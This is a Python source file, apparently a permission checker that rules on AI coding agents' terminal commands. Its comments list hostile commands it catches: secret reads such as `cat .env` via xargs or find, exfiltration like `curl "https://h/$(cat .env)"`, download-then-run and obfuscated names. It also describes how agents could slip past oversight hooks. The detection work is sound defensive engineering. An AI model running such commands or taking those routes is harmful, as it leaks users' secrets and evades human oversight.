    (permissions.where.handed_at_run_time): the operands xargs reads after each view's command under it (`echo .env
    | xargs cat` as `cat .env`), the segment with its substitutions filled in (`cat $(echo .env)` as `cat .env`), and
    each name a list handed to it may hold when a filter picks it (where.picked_by_name: `find . -name .env | xargs
    cat`, `cat "$(ls -a | grep env)"`, find's own `-exec cat {}`) as the one operand of a view."""
    words = segments[i].words
    fed, filled, picked = handed_at_run_time(segments, command, i, cwd)
    out = [(*v, *fed) for v in views if v[0] != "xargs"] if fed else []
    if filled:
        out.append(tuple(filled))
        if words[0] == "git":
            # `git show $(git rev-parse HEAD:.env)`: git's words before the substitution kept
            at = next((k for k, w in enumerate(words) if "$(…)" in w or "`…`" in w), len(words))
            out += content_reads((*words[:at], *filled[1:]))
    if picked:  # each name a list may hold, one operand (a glob meets a rule's place alone: GlobMeaning)
        led = [v for v in views if v[0] != "xargs"] if words[0] == "xargs" else [words[:1]]
        out += [(*v, g) for v in led for g in picked]
    if words[0] == "find":  # what find's -exec runs on what it finds (`-name .env -exec cat {} +`)
        picked = picked_by_name([words, *_found_elsewhere(words, dirs, cwd)])
        out += [tuple(g if w == "{}" else w for w in v) for v in views if "{}" in v for g in picked]
    if words[:1] == ("git",) and "cat-file" in words and any(w.partition("=")[0] in _BATCH for w in words):
        # the objects it is fed by name (`echo HEAD:.env | git cat-file --batch`), each read as `git show` of it
        out += [
            v for name in fed_words(segments, command, i, cwd) for v in content_reads(("git", "show", name))
        ]
    if segments[i].hidden and "$" in segments[i].text:  # a script's parameters a runner gives (`-exec sh -c`)
        given = _runner_gives(segments, command, i, cwd)
        out += [tuple(g if _PARAMETER.fullmatch(w) else w for w in v) for v in views for g in given]
    return out


_PARAMETER = re.compile(r"\$(?:[0-9@*]|\{(?:[0-9]+|[@*])\})")  # (`$1`, `$@`, `${1}`: quotes read off)


def _runner_gives(segments: Sequence[Segment], command: str, i: int, cwd: str) -> list[str]:
    """R4.10, red team: the names a script's positional parameters may hold when the command running the shell it
    is in hands them on at run time -- what a find picks by name (`find . -name .env -exec sh -c 'cat "$1"' _ {}
    \\;`), what xargs is fed or picks (`ls -a | grep env | xargs -n1 sh -c 'cat $0'`); [] for any other."""
    if _PARAMETER.search(segments[i].text) is None:
        return []
    j = i - 1
    while j >= 0 and segments[j].hidden:
        j -= 1
    words = segments[j].words if j >= 0 else ()
    if words[:1] == ("find",):
        return picked_by_name([words])
    if words[:1] and words[0] in FDS:  # `fd -H '^\.env$' -x sh -c 'cat "$1"' _ {}`
        return fd_picked(FdWords(words))
    if words[:1] == ("xargs",):
        fed, _, picked = handed_at_run_time(segments, command, j, cwd)
        return [*fed, *picked]
    return []


# R4.10: the shell's own readers of an input redirect -- `read x < .env`, `mapfile a < .env`, a loop's `done <
# .env`, `exec 3< .env` (then read through the descriptor) -- print what they read as soon as a later word says
# so, and filters print what they are fed (`tee < .env`, `tr -d x < .env`, `envsubst < .env`): read as `cat` of
# the file, for a rule printing it (_paths_spelt gives the redirect as its operand).
_SHELL_READERS = frozenset(
    {
        "read",
        "mapfile",
        "readarray",
        "exec",
        "tee",
        "tr",
        "envsubst",
        "numfmt",
        "dos2unix",
        "unix2dos",
        "mac2unix",
        # red team: converters and line filters printing what they are fed (`recode l1..utf8 < .env`, `enca -x
        # utf-8 < .env`, `ts < .env`, `par < .env`, `sponge < .env`), gpg re-wrapping it to the standard output
        # (`gpg --enarmor < .env`) and dd copying it there (`dd < .env`)
        "recode",
        "enca",
        "par",
        "ts",
        "sponge",
        "gpg",
        "gpg2",
        "dd",
        # (formatters that print what they are fed, and write a file only when given one: `astyle < .env`,
        # `source-highlight < .env`)
        "astyle",
        "source-highlight",
    }
)
_SHELL_READ: list[tuple[str, ...]] = [("cat",)]


# ... and a file sourced into a command that then prints its environment (`set -a; source .env; env`):
# file_printers.prints_environment.


def _shell_read(segments: Sequence[Segment], i: int) -> list[tuple[str, ...]]:
    """The `cat` view segment ``i`` is read as when the shell reads a place a rule prints (_SHELL_READERS,
    SOURCING); [] for any other segment."""
    seg = segments[i]
    words = seg.words
    if seg.inputs and (not words or words[0] in _SHELL_READERS):
        return _SHELL_READ
    if len(words) > 1 and words[0] in SOURCING:
        later = segments[i + 1 :]
        if any(prints_environment(s.words) for s in later):
            return [("cat", words[1])]
        if any(_may_print_environment(s.words) for s in later):
            return [words[:2]]  # (no printing rule names `source`: _sourced_maybe asks)
    return []


def _scripts_run(views: Sequence[tuple[str, ...]]) -> tuple[list[tuple[str, ...]], list[tuple[str, ...]]]:
    """R4.10, R4.8: the file a SCRIPT_RUNNERS program runs, as a `cat` view -- printed by PHP (whatever is no code
    is its output: `php .env` prints it all), maybe printed by the others (a syntax error shows the line it stops
    at: `python3 .env`, `node .env`, `bash .env`: asks), as every file a SOURCE_QUOTERS program is given (`gcc
    -fsyntax-only .env`); ([], []) for other views. (A shell's `-c` line, `python -m` and `-c` code are read as what
    they run, not as a file.)"""
    printed: list[tuple[str, ...]] = []
    maybe: list[tuple[str, ...]] = []
    for view in views:
        name = view[0].rpartition("/")[2] if len(view) > 1 else ""
        if name in SOURCE_QUOTERS:
            maybe += [("cat", w) for w in view[1:] if w[:1] != "-"]
        if name in SCRIPT_FILE_OPTIONS:  # `psql -f .env`: an error quotes the line it stops at
            maybe += [("cat", f) for f in option_values(view[1:], SCRIPT_FILE_OPTIONS[name])]
            maybe += [("cat", w[6:].strip()) for w in view[1:] if w[:6] in (".read ", "source")]
        if name not in SCRIPT_RUNNERS:
            continue
        for script in _script_operands(view):
            (printed if view[0].rpartition("/")[2].startswith("php") else maybe).append(("cat", script))
    return printed, maybe


_RUN_INSTEAD = frozenset({"-c", "-m", "-e", "-r", "-E", "--eval", "-p", "--print", "-Command"})


def _script_operands(view: tuple[str, ...]) -> list[str]:
    """The file a script runner's view may run (its first operand, `-f FILE` for PHP; `deno run FILE`, `bun run
    FILE`; the next one too when the first may be a short option's value: `python3 -W ignore .env`), [] when it
    runs code given otherwise (`-c`, `-m`, `-e`)."""
    words = view[1:]
    if words[:1] == ("run",) and view[0].rpartition("/")[2] in ("deno", "bun"):
        words = words[1:]
    found: list[str] = []
    for k, w in enumerate(words):
        if w in _RUN_INSTEAD:
            return []
        if w == "-f" and k + 1 < len(words):
            return [words[k + 1]]
        if w[:1] != "-":
            found.append(w)
            if found[1:] or k == 0 or len(words[k - 1]) != 2 or words[k - 1][:1] != "-":
                break
    return found


def _sourced_maybe(segments: Sequence[Segment], i: int) -> list[tuple[str, ...]]:
    """R4.10, R4.8: the file segment ``i`` sources, as a `cat` view, when a later command may print a variable it
    set (`source .env; echo $KEY`, `. ./.env && node -e ...`: asks); [] otherwise."""
    words = segments[i].words
    if len(words) < 2 or words[0] not in SOURCING:
        return []
    return [("cat", words[1])] if any(_may_print_environment(s.words) for s in segments[i + 1 :]) else []


def _windows_spelt(st: _State, comp: CompiledPermissions, reading: SegmentReading) -> tuple[str, str] | None:
    """SPEC §5 (off the sandbox PowerShell and cmd may be the shell) and R4.10 (the same program by another name):
    a deny (else an ask) pattern naming a POSIX program that matches a segment read as PowerShell and cmd read it
    in that program's words (permissions.commands.windows.posix_spellings). A reading past what the text
    decides (an ambiguous or unknown parameter, a splat, a method in a variable) asks when any pattern matches
    it. The deny is returned; an ask is kept in ``reading`` as a segment's own would be."""
    segments = st.parsed.segments if st.parsed is not None else ()
    texts = st.win_texts
    direct = len(texts) == len(segments) == len(reading.out)  # no script block's statements among the texts
    for i in texts_to_spell(segments if direct else (), texts, st.windows >> FIRST_LED_SHIFT):
        text = texts[i]
        for spelt, certain in posix_spellings(text, comp.windows_posix, reading.asked is not None):
            hit = comp.deny_or_ask(_windows_places(spelt, comp) if comp.path_rules else spelt)
            if hit is None:
                continue
            pattern = hit[1].text
            if hit[0] == DENY_RANK and certain:
                if direct:
                    reading.out[i] = SegmentVerdict(segments[i].text, DENY, pattern)
                return ("deny_rule", pattern)
            if reading.asked is None:
                if direct:
                    reading.out[i] = SegmentVerdict(segments[i].text, REQUIRE_APPROVAL, pattern)
                reading.asked = pattern
    return None


def _windows_places(spelt: Sequence[tuple[str, ...]], comp: CompiledPermissions) -> list[tuple[str, ...]]:
    """R4.10 for a rule naming a place: ``spelt`` (a Windows reading's POSIX views), and each with its paths in
    Windows' spelling written plainly (`.\\.env` as `.env`) and in the case the rule writes them (Windows' file
    systems fold case)."""
    out = list(spelt)
    for view in spelt:
        plain = windows_places(view)
        cased = comp.places_as_ruled(plain or view)
        out += [v for v in (plain, cased) if v is not None]
    return out


def _floor_where(st: _State, reading: SegmentReading, doomed: bool) -> tuple[str, str] | None:
    """R4.6 [beyond]: where a deletion lands once `cd`, `..`, `~`, `$HOME`, `/proc/*/root` and operands piped
    into xargs are read (permissions.where)."""
    parsed = st.parsed
    assert parsed is not None
    scope = st.scope_of()
    start = scope.cwd if (st.req.cwd or st.req.project.root) else UNKNOWN
    seg_views = None if doomed else reading.seg_views
    lands = floor_where(parsed.segments, seg_views, st.req.command or "", start, not st.in_sandbox)
    if lands is None:
        return None
    reading.out[lands] = SegmentVerdict(parsed.segments[lands].text, DENY, BUILTIN_DENY[0])
    return ("builtin_deny", BUILTIN_DENY[0])


def _past_read_budget(
    comp: CompiledPermissions, command: str, asked: str | None
) -> tuple[tuple[str, str] | None, str | None]:
    """Reading stopped at its budget (R4.7, the read budget): the segments past it were never read, so deny (then
    ask) checks the whole text for a program a rule or the floor names (R4.7, R4.8). (denied, asked)."""
    mention = comp.mention(command, FLOOR_VERBS)
    if mention is not None and mention[0] == DENY_RANK:
        _, word, pat = mention
        named = f"'{word}', which " if word else ""
        if pat is None:
            return ("builtin_deny", f"{TOO_COMPLEX}; it names {named}a built-in rule denies"), asked
        return ("deny_rule", f"{TOO_COMPLEX}; it names {named}{pat.text} denies"), asked
    if ("$'" in command or "," in command) and _HIDES_WORDS.search(command) is not None:
        # Words the name search cannot see, which a full reading decodes and deny-checks: `$'\x63url'`,
        # `{c,}url`. Denied rather than left to a person (R4.7: deny sees every segment). (Every alternative of
        # the search holds `$'` or a comma, tested first: on 100 KB the search costs more than the mentions.)
        return ("builtin_deny", f"{TOO_COMPLEX}; {_HIDDEN_WORDS}"), asked
    if mention is not None and asked is None and mention[2] is not None:
        return None, mention[2].text  # an ask rule speaks for the unread part too
    return None, asked


def _never_auto(st: _State, comp: CompiledPermissions, command: str) -> str | None:
    """Why a terminal command can never be auto-approved whatever its segments say, or None."""
    parsed = st.parsed
    assert parsed is not None
    segments = parsed.segments
    if parsed.unparseable:
        return parsed.problem or "the command cannot be parsed"
    if len(command) > MAX_COMMAND_CHARS:
        return f"the command is longer than {MAX_COMMAND_CHARS} characters"
    if len(segments) > MAX_SEGMENTS:
        return f"the command has more than {MAX_SEGMENTS} segments"
    known = _TEXT_MEMO.get(command)
    if known is None:
        known = _never_auto_by_text(segments, st.seg_views, command)
        if len(command) <= _MEMO_CHARS:  # kept for a command of at most _MEMO_CHARS
            if len(_TEXT_MEMO) >= _TEXT_MEMO.limit:  # Memo.keep, inlined (a call less per decision)
                _TEXT_MEMO.clear()
            _TEXT_MEMO[command] = known
    never_auto, writes = known
    if never_auto is None and st.windows & WINDOWS_SPLITS:
        never_auto = _windows_split(segments)  # SPEC §5: one command to bash, several to PowerShell and cmd
    if never_auto is None and st.windows & WINDOWS_LED:
        never_auto = _windows_unread(
            st.win_texts, comp
        )  # SPEC §5: on Windows, PowerShell's and cmd's runners too
    if never_auto is None and st.windows & WINDOWS_ENV:
        # SPEC §5, R3.7, R4.9: `$env:PATH = '.'`, `set BRABO_URL=`, `Remove-Item Env:BRABO_URL`
        never_auto = windows_environment(st.win_texts)
    if never_auto is None and not writes and st.windows:
        # SPEC §5: off the sandbox, PowerShell's and cmd's writers too (permissions.commands.windows)
        writes = any(names_windows_writer(t) for t in st.win_texts)
    if (
        never_auto is None
        and writes
        and len(st.win_texts) > 1
        and may_run_a_file(command)
        and windows_runs_written(st.win_texts)
    ):
        # R4.9, SPEC §5: `iwr URL -OutFile x.ps1; .\x.ps1` (win_texts: off the sandbox only)
        never_auto = WRITTEN_THEN_RUN
    if never_auto is None and st.req.runs_in == "agent":
        never_auto = _through_a_hook(st, comp, command)
    elif never_auto is None and starts_agent(st.seg_views):
        never_auto = _agent_started_away(st, comp, command)  # R3.7, SPEC §5: without the project's hooks
    if never_auto is None and writes:
        # R3.7: a write into a file that decides what runs later, which only an allow written for that exact
        # segment covers (a redirection cannot be written in a pattern, so nothing covers it).
        never_auto = _protected_write(st, comp, command)
    return never_auto


def _through_a_hook(st: _State, comp: CompiledPermissions, command: str) -> str | None:
    """_never_auto's readings of a command an agent's hook sent, from one look at every view's first word: a
    nested agent started away from the project's hooks (R3.7), a program typed into later (R4.9)."""
    firsts = {v[0] for vs in st.seg_views for v in vs if v}
    never_auto = None
    if not AGENT_FIRSTS.isdisjoint(firsts):
        never_auto = _agent_started_away(st, comp, command)
    if never_auto is None and not TYPED_VERBS.isdisjoint(firsts):
        never_auto = _typed_into(st, comp, command)
    return never_auto


def _typed_into(st: _State, comp: CompiledPermissions, command: str) -> str | None:
    """SPEC §5 "where it runs", R4.9, red team: through an agent's hook, a program that runs what is typed into
    it (permissions.commands.typed_input: a pager, an editor, a debugger, a shell session, git's editor), with
    no allow written for exactly that segment -- what the agent types in later (Codex's write_stdin) reaches
    no hook. None otherwise."""
    segments = st.parsed.segments  # type: ignore[union-attr]
    named: (
        dict[str, int] | None
    ) = {}  # the programs the last segment's settings name, read as segments after it
    namer: list[tuple[str, ...]] = []  # ... that segment's views (named is read from them when first needed)
    carried: dict[str, str] = {}  # what `export GIT_PAGER=less` sets for the segments after it
    history: dict[str, list[tuple[str, str]]] = {}  # ... each value in order, with the segment that set it
    for i, vs in enumerate(st.seg_views):
        seg = segments[i]
        if seg.hidden:
            named = named_values(namer) if named is None else named
            if named.get(seg.text):
                named[seg.text] -= 1
                continue  # `KUBE_EDITOR=vim kubectl get pods`: named; the program it is named for is read below
        named, namer = (None, vs) if "=" in seg.text or "git" in seg.text else ({}, namer)
        if vs and vs[0][:1] == ("command",) and looks_up(vs[0]):
            continue  # `command -v vim`, `command -pV vim`: a lookup
        settings = settings_of(vs) if "=" in seg.text else {}
        if settings and not seg.hidden and carries_settings(vs):
            carried.update(settings)
            for name, value in settings.items():
                history.setdefault(name, []).append((value, seg.text))
            continue
        what = _typed_segment(vs, seg, comp, command, settings, carried, history)
        if what is not None:
            return (
                f"'{shown(seg.text)}' {what}, and what an agent types into a program it started reaches no"
                " hook (Codex's write_stdin); only an allow written for exactly this command covers it"
            )
    return None


def _typed_segment(
    vs: list[tuple[str, ...]],
    seg: Segment,
    comp: CompiledPermissions,
    command: str,
    own: dict[str, str],
    carried: dict[str, str],
    history: dict[str, list[tuple[str, str]]],
) -> str | None:
    """What a segment's program runs from what is typed into it, unless an allow written for exactly the
    segment covers it -- and such an allow was not written for a pager an earlier segment named for it
    (`export GIT_PAGER=less; git log`). What earlier segments set is read both ways: as reaching (a pager it
    names asks) and, for a relief (`export GIT_EDITOR=true`), in every way it may or may not reach
    (possible_settings)."""
    settings = {**carried, **own} if carried else own
    for v in vs:
        if not v or (v[0] not in TYPED_VERBS and not (settings and v[0] in PAGED_VERBS)):
            continue
        piped = _piped_on(command, seg.text)
        what = typed_into(v, piped, settings)
        if what is None and carried:
            what = _relief_holds(v, piped, command, seg.text, history, own)
        if what is None:
            continue
        if comp.allow.match_exactly(seg.words) is None or (carried and typed_into(v, piped, own) is None):
            return what
    return None


def _relief_holds(
    v: tuple[str, ...],
    piped: bool,
    command: str,
    target: str,
    history: dict[str, list[tuple[str, str]]],
    own: dict[str, str],
) -> str | None:
    """What the program of ``v`` runs from what is typed into it under some set of settings it may run with
    (possible_settings), or None when the relief holds in each."""
    readings = possible_settings(command, target, history, own)
    if readings is None:
        return TOO_MANY_SETTINGS
    for settings in readings:
        what = typed_into(v, piped, settings)
        if what is not None:
            return what
    return None


def _piped_on(command: str, text: str) -> bool:
    """The segment whose text is ``text`` sends its output down a pipe (`man ls | head`); False when unsure."""
    at = command.find(text)
    if at < 0:
        return False
    rest = command[at + len(text) :].lstrip(" \t")
    return rest[:1] == "|" and rest[1:2] != "|"


def _agent_started_away(st: _State, comp: CompiledPermissions, command: str) -> str | None:
    """[beyond] R3.7, SPEC §5 "where it runs", red team: why a nested coding agent starts in a folder where it
    may not read the project's settings, Brabo's hook among them (permissions.commands.agent_clis: Claude Code
    and Gemini CLI read them from the folder they start in, Codex from there up to the project's root), with
    no allow written for exactly that segment; or None. Where each segment runs is permissions.where's reading
    (`cd`, `pushd`/`popd`, subshells, `Set-Location`); a folder decided only when it runs is not the project's,
    nor one a wrapper moves to (`env -C /tmp claude`, `env -C /tmp sh -c 'claude'`)."""
    parsed = st.parsed
    assert parsed is not None
    segments = parsed.segments
    sets: list[frozenset[str]] | None = None
    scope: Scope | None = None
    carried = False  # the script a folder-moving wrapper carries (`env -C /tmp sh -c '...'`)
    for i, vs in enumerate(st.seg_views):
        seg = segments[i]
        if carried and not seg.hidden:
            carried = False
        moved = len(vs) > 1 and moves_folder(vs)
        name = nested_agent(vs)
        if moved:
            carried = True
        if name is None or comp.allow.match_exactly(seg.words) is not None:
            continue
        if scope is None:
            scope = st.scope_of()
            # (SPEC §5: where it may run on Windows, cmd's and PowerShell's `cd /d`, `Set-Location` too)
            sets = cwd_sets(segments, command, scope.cwd, floor=False, windows=scope.windows)
        dirs = sets[i] if sets is not None and i < len(sets) else (scope.cwd,)
        root = scope.roots[0] if scope.roots else None
        if (
            moved
            or carried
            or root is None
            or any(d != root if name != "codex" else not within(d, root) for d in dirs)
        ):
            return (
                f"'{shown(seg.text)}' starts {name} away from the project folder, where it may not read the project's"
                " settings and Brabo's hook in them; start it in the project folder, or only an allow written"
                " for exactly this command covers it"
            )
    return None


def _never_auto_by_text(
    segments: Sequence[Segment], seg_views: list[list[tuple[str, ...]]], command: str
) -> tuple[str | None, bool]:
    """What _never_auto reads from the text alone: why it can never be auto-approved (arithmetic on input, a
    file written then run), and whether some segment may write a file (R3.7 then reads which)."""
    never_auto = arithmetic_on_input(command, segments)  # R4.9: arithmetic on what a command reads
    if never_auto is None and "git" in command and ("EDITOR" in command or "VISUAL" in command):
        never_auto = todo_editor_carried(seg_views)  # R4.9: `export EDITOR='sed -i …'; git rebase -i`
    if never_auto is None and "_A" in command:  # (MAVEN_ARGS, PYTEST_ADDOPTS: one test on the hot path)
        never_auto = arguments_carried(seg_views)  # R4.10: `export MAVEN_ARGS=deploy && mvn -q`
    if never_auto is None and len(segments) > 1 and _writes_any(segments):
        never_auto = runs_a_written_file(
            [(s.words, s.written() if s.inputs else s.redirects) for s in segments]
        )
    return never_auto, never_auto is None and (
        may_write_any(segments, seg_views) or may_name_agent_settings(command) or may_name_a_place(command)
    )


def _writes_any(segments: Sequence[Segment]) -> bool:
    """Whether some segment redirects or is led by a verb that may write a file a later segment runs (the last
    one's writes run nowhere after it)."""
    for s in segments[:-1]:
        w = s.words
        if s.redirects or (w and (w[0] in _WRITES or (w[0] in WRITE_VERBS and may_write(w)))):
            return True
    return False


# Agents repeat their commands: what the caps, the path scope and _never_auto read from a command depends on its
# text and the few request fields in each key, so each is kept for commands up to _MEMO_CHARS (hostile sizes are
# read every time), a memo emptied when it holds _MEMO_MAX answers.
_MEMO_MAX = 4096
_MEMO_CHARS = 2048
_UNSEEN: Any = object()  # a memo's "not yet read" (None is an answer)
_TEXT_MEMO: Memo[str, tuple[str | None, bool]] = Memo(_MEMO_MAX)
_CAP_MEMO: Memo[tuple[str, tuple[str, ...]], tuple[str, str] | None] = Memo(_MEMO_MAX)
_OUTSIDE_MEMO: Memo[tuple[str, tuple[str, ...], str, bool], str | None] = Memo(_MEMO_MAX)
_MACHINE_MEMO: Memo[str, str | None] = Memo(_MEMO_MAX)


_PROTECTED_MEMO: Memo[tuple[str, str, tuple[str, ...], bool], tuple[tuple[int, bool, str], ...]] = Memo()


def _protected_write(st: _State, comp: CompiledPermissions, command: str) -> str | None:
    """R3.7 for a terminal command: why it writes a protected file with no allow written for exactly the
    writing segment (a redirection cannot be written in a pattern: nothing covers it), or None."""
    parsed = st.parsed
    assert parsed is not None
    scope = st.scope_of()
    # Agents repeat their commands: the reading depends on the text and where it starts only (memoised).
    key = (command, scope.cwd, scope.roots, scope.windows)
    found = _PROTECTED_MEMO.get(key)
    if found is None:
        found = _PROTECTED_MEMO.keep(
            key,
            tuple(
                protected_writes(
                    parsed.segments, st.seg_views, scope.cwd, scope.roots, command, scope.windows
                )
            ),
        )
    for i, by_redirect, why in found:
        seg = parsed.segments[i]
        if by_redirect or comp.allow.match_exactly(seg.words) is None:
            return f"'{shown(seg.text)}': {why}; only an allow written for exactly this command covers it"
    return None


def _protected_file_write(payload: Mapping[str, Any] | None) -> str | None:
    """R3.7 for write_file: why its path (below its cwd, when the payload names one) is protected."""
    if not payload:
        return None
    path = payload.get("path")
    if not isinstance(path, str):
        return None
    cwd = payload.get("cwd")
    hit = protected_file(path)
    if hit is None and isinstance(cwd, str) and cwd:
        hit = protected_file(cwd.rstrip("/") + "/" + path)
    if hit is None:
        return None
    return (
        f"{path} is in {hit.shown}, {hit.what}, which decides what runs later; a person approves each write"
    )


def _upload_around(
    view: tuple[str, ...],
    seg: Segment,
    idx: int,
    around: list[tuple[bool, dict[int, str], bool]],
    command: str,
    segments: Sequence[Segment],
) -> bool:
    """An upload verb's view as its surroundings show it (permissions.commands.uploads.uploads_in): fed by
    a pipe or a redirection, under a named proxy, handed words by ``xargs`` from a fed input, given words
    built from what the command captured (``curl "https://h/$(cat .env)"``), or a database client whose server
    the command's variables name (``PGHOST=h psql -f .env``: read for a database client only). ``around`` keeps
    what the surroundings are, read at the first upload verb met (empty until then)."""
    if not around:
        around.append((names_a_proxy(segments), fed_segments(command, segments), captures(segments)))
    proxied, fed_at, captured = around[0]
    fed = fed_at.get(idx, "")
    built = captured and bool(seg.dynamic) and max(seg.dynamic) >= len(seg.words) - len(view)
    servers = servers_set(segments) if view[0] in SERVER_CLIENTS else frozenset()
    if not (proxied or fed or built or servers):
        return False  # read already, as written, by external_effect_views
    handed = built or (bool(fed) and handed_words(seg.words, view))
    return uploads_in(view, fed=fed, proxied=proxied, handed=handed, servers=servers)


# the verbs _external_around reads (the others' views are read by _external_view alone)
_AROUND_VERBS = UPLOAD_VERBS | MIGRATION_VERBS


def _external_around(
    view: tuple[str, ...],
    seg: Segment,
    idx: int,
    around: list[tuple[bool, dict[int, str], bool]],
    command: str,
    segments: Sequence[Segment],
) -> bool:
    """§5 step 6 for a view no reading of its own words caps (_external_view): an upload as its surroundings
    show it (_upload_around: what it reads, a proxy, words handed to it), or a migration whose environment an
    earlier segment chose (`export RAILS_ENV=production; rails db:migrate`, permissions.commands.migrations)."""
    verb = view[0]
    if verb in UPLOAD_VERBS and _upload_around(view, seg, idx, around, command, segments):
        return True
    return bool(idx) and verb in MIGRATION_VERBS and migrates_after(view, segments[:idx])


def _external_view(view: tuple[str, ...]) -> bool:
    """§5 step 6: one view has an external effect as written or as its option table reads it (R4.10). A view
    led by an assignment (`FLASK_RUN_HOST=0.0.0.0 flask run`: a server's bind variable) is read as written
    only: its first word names no program."""
    if external_effect_views((view,)):
        return True
    # canonical_words is () for a program no option table knows: nothing more to read, without the reading.
    first = view[0]
    return (
        "=" not in first
        and program_name(first) in _CAP_TABLES
        and external_effect_views(canonical_words(view))
    )


_CAP_TABLES = frozenset(PROGRAMS) - DENY_ONLY  # (the option tables the caps read a view by)


def _windows_unread(texts: list[str], comp: CompiledPermissions) -> str | None:
    """R4.9 for a command that may run on Windows: a segment (or a statement of a script block) that runs a
    command no rule reads; or (R4.8) one whose `cmd /c` line a deny or ask pattern names, read as its own words
    (permissions.commands.windows.cmd_line_read: looked through for deny and ask, it asks)."""
    for text in texts:
        why = runs_unread(text)
        if why is not None:
            return why
        if text[:1] in "cC" and text[:3].lower() == "cmd":
            why = _cmd_line_named(text, comp)
            if why is not None:
                return why
    return None


def _cmd_line_named(text: str, comp: CompiledPermissions) -> str | None:
    """R4.8, R4.10: the line `cmd /c` runs (permissions.commands.windows.cmd_line_read) as a deny or ask pattern
    reads it -- as written, and in a POSIX program's words (`type x` is `cat x`) -- asks when one names it."""
    line = cmd_line_read(text)
    if line is None:
        return None
    views = [line]
    if comp.windows_posix:
        views.extend(
            v for spelt, _ in posix_spellings(" ".join(line), comp.windows_posix, True) for v in spelt
        )
    hit = comp.deny_or_ask(views)
    if hit is None:
        return None
    return f"'{' '.join(line)}', which cmd runs, is named by {hit[1].text}"


def _windows_split(segments: Sequence[Segment]) -> str | None:
    """R4.7 for a command that may run on Windows: a segment that PowerShell and cmd split into commands the
    shell reading never read (`Write-Output .\\; sc .claude\\settings.json x`)."""
    for seg in segments:
        later = windows_split(seg.text)
        if later is not None:
            unread = later if len(later) <= 60 else later[:57] + "..."
            return (
                f"'{seg.text[:80]}' is more than one command where Windows runs it: '{unread}' is never read"
            )
    return None


def _windows_caps(st: _State) -> tuple[str, str] | None:
    """§5 step 6 off the sandbox: PowerShell's spellings (_windows_cap), then a script block's statement that
    has an external effect or a privileged verb (_script_blocks)."""
    cap = _windows_cap(st.win_texts) if st.windows & WINDOWS_LED and st.parsed is not None else None
    return cap if cap is not None else st.block_cap


def _windows_cap(texts: list[str]) -> tuple[str, str] | None:
    """§5 step 6 for a command that may run on Windows: a PowerShell web request that sends or changes, mail,
    a publication, a remote session or copy, a network drive, an upload (permissions.commands.windows)."""
    for text in texts:
        if sends_on_the_web(text):
            return "cap_external_effect", text
    return None


def _sent_elsewhere(
    segments: Sequence[Segment], seg_views: list[list[tuple[str, ...]]], command: str
) -> str | None:
    """The segment (its text) that hands another machine what the command holds: a data store in a code runner's
    arguments (red team: `node x.js --db mongodb://prod.example.com`), a name or an address built from captured
    data (R4.10: fetches.may_capture, inlined: the hot path); or None."""
    if "://" in command:
        handed = hands_a_data_store(seg_views)
        if handed is not None:
            return segments[handed].text
    if "$" in command or "`" in command or "<(" in command:
        return sends_captured(segments, seg_views, command)
    return None


def _terminal_cap(
    seg_views: list[list[tuple[str, ...]]],
    parsed: ParsedCommand | None,
    protected: Sequence[str] = (),
    command: str = "",
) -> tuple[str, str] | None:
    """§5 step 6 for terminal, before the path scope: external effect, a protected branch moved (R1.5), then
    privileged."""
    if parsed is None:
        return None
    segments = parsed.segments
    privileged_at: str | None = None
    # whether the command names a proxy, and which segments are fed: read once, only if an upload verb is met
    around: list[tuple[bool, dict[int, str], bool]] = []
    git = False  # some view is a git command (git is a cap verb: every such view is met below)
    for idx, (seg, vs) in enumerate(zip(segments, seg_views)):
        if seg.redirects and network_redirect(seg.redirects):
            return "cap_external_effect", seg.text  # R4.9: bash opens a network connection
        for view in vs:
            if not view:
                continue
            verb = view[0]
            # an assignment: a server's bind variable (FLASK_RUN_HOST); a versioned program (`npx vercel@1 deploy`)
            if verb in _CAP_VERBS or "=" in verb or "@" in verb:
                git = git or verb == "git" or verb == "jj"  # jj's bookmarks are git's branches (R1.5)
                if _external_view(view) or (
                    verb in _AROUND_VERBS and _external_around(view, seg, idx, around, command, segments)
                ):
                    return "cap_external_effect", seg.text
                if privileged_at is None and privileged_view(view) and still_privileged(view, seg.text):
                    privileged_at = seg.text
    if "$" in command or "`" in command or "<(" in command or "://" in command:
        sent = _sent_elsewhere(segments, seg_views, command)
        if sent is not None:
            return "cap_external_effect", sent
    if protected and git:
        moved = protected_branch_move(seg_views, protected)  # R1.5: by any git command, not only a merge
        if moved is not None:
            return "cap_protected_merge", segments[moved].text
    if privileged_at is not None:
        return "cap_privileged", privileged_at
    return None
